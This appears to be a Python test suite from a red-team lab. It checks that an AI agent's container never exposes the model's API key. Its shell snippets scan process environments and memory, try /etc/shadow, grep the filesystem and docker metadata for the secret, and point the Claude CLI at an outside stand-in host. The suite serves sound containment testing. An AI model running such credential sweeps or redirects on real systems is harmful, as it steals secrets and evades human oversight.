"""Reading the model's key: it is in no agent's container. Lab.sh fails whenever an agent prints it, in every test here."""

from __future__ import annotations

import asyncio

from tests.redteam.lab import SECRET, Lab, run

_EVERY_PROCESS = """
    for p in /proc/[0-9]*; do [ $p = /proc/$$ ] && continue
      for f in environ mem maps fd/1 fd/3 root/etc/shadow; do
        timeout 1 head -c 100000 $p/$f 2>/dev/null | tr '\\0' '\\n'
      done
      for f in environ mem maps; do (head -c 1 $p/$f >/dev/null) 2>/dev/null && echo "read $(cat $p/comm) $f"; done
    done
    true
"""


async def test_the_key_is_where_it_should_be_so_that_looking_for_it_means_something(lab: Lab) -> None:
    assert SECRET in (lab.machine.root / "gateway" / "credential.json").read_text()
    assert {request.key.get_secret_value() for request in lab.machine.model.requests if request.key} == {SECRET}


async def test_reading_every_process_finds_no_key_and_opens_neither_supervisor_nor_cli_nor_bridge(lab: Lab) -> None:
    running = await lab.sh("ps -eo comm=")
    assert {"python3", "claude", "socat"} <= set(running.split())

    said = await lab.sh(_EVERY_PROCESS)

    assert "read sleep environ" in said, "the way to look does not work"
    for name in ("python3", "claude", "socat", "docker-init"):
        assert f"read {name} " not in said, said


async def test_reading_every_file_finds_no_key(lab: Lab) -> None:
    said = await lab.sh(f"""
        echo {SECRET[:-3]} > /tmp/decoy
        grep -rlsa --exclude-dir=proc --exclude-dir=sys -e {SECRET[:-3]} / ; rm /tmp/decoy
    """)
    assert said.split() == ["/tmp/decoy"]


async def test_the_environment_holds_a_placeholder_for_the_key(lab: Lab) -> None:
    said = await lab.sh("cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a ^ANTHROPIC_API_KEY= | sort -u")
    assert said.strip() == "ANTHROPIC_API_KEY=the-gateway-adds-it"


async def test_docker_tells_nobody_the_key_neither_of_containers_nor_of_images(lab: Lab) -> None:
    containers = [lab.agent, lab.gateway_name]
    images = (await run("docker", "inspect", "--format", "{{.Config.Image}}", *containers)).split()
    said = await run("docker", "inspect", *containers, *images)
    for each in images:
        said += await run("docker", "history", "--no-trunc", each)
    for each in containers:
        said += await run("docker", "top", each, "-eo", "pid,args") + await run("docker", "logs", each)

    assert lab.agent in said
    assert SECRET not in said


async def test_an_api_elsewhere_gets_a_placeholder_for_the_key_even_when_the_cli_is_led_there(lab: Lab) -> None:
    """Settings of the agent's own home, which it may write, lead a CLI of its own to a host it may reach."""
    script = """
        mkdir -p /tmp/own/.claude && cd /tmp/own
        echo '{"env": {"ANTHROPIC_BASE_URL": "http://outside.example"}}' > .claude/settings.json
        env -u ANTHROPIC_UNIX_SOCKET HOME=/tmp/own ANTHROPIC_BASE_URL=http://outside.example \\
          timeout 90 claude -p hello --max-turns 1 < /dev/null & until [ -e seen ] || ! kill -0 $!; do sleep 0.1; done
        kill $!; wait; rm -rf /tmp/own
    """
    asking = asyncio.create_task(lab.sh(script))
    while "/v1/messages" not in (seen := await lab.outside_heard()):
        assert not asking.done(), "it was not led there"
    await lab.sh("touch /tmp/own/seen")
    await asking

    assert "the-gateway-adds-it" in seen
    assert SECRET not in seen
